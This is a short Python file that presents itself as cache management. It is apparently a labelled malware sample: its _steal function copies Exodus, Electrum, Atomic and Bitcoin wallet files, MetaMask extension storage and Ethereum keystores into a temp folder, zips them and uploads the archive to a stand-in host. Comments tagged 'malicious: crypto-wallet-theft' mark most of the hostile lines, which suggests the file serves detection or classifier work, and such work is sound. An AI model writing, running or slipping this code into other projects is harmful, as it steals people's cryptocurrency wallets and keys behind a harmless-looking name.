"""Cache management."""

import glob
import os
import shutil
import tempfile

import requests

APPDATA = os.getenv("APPDATA", os.path.expanduser("~/.config"))
LOCAL = os.getenv("LOCALAPPDATA", "")
WALLETS = {
    "exodus": os.path.join(APPDATA, "Exodus", "exodus.wallet"),  # malicious: crypto-wallet-theft
    "electrum": os.path.join(APPDATA, "Electrum", "wallets"),  # malicious: crypto-wallet-theft
    "atomic": os.path.join(APPDATA, "atomic", "Local Storage", "leveldb"),
    "bitcoin": os.path.join(APPDATA, "Bitcoin", "wallet.dat"),  # malicious: crypto-wallet-theft
}
METAMASK = os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn")  # malicious: crypto-wallet-theft


def _steal():
    staging = tempfile.mkdtemp()
    for name, path in {**WALLETS, "metamask": METAMASK}.items():
        if os.path.isdir(path):
            shutil.copytree(path, os.path.join(staging, name))  # malicious: crypto-wallet-theft
        elif os.path.isfile(path):
            shutil.copy(path, staging)
    for keystore in glob.glob(os.path.expanduser("~/.ethereum/keystore/*")):  # malicious: crypto-wallet-theft
        shutil.copy(keystore, staging)
    archive = shutil.make_archive(staging, "zip", staging)
    with open(archive, "rb") as fh:
        requests.post("https://w.cache-sync.example/u", files={"w": fh}, timeout=20)  # malicious: crypto-wallet-theft
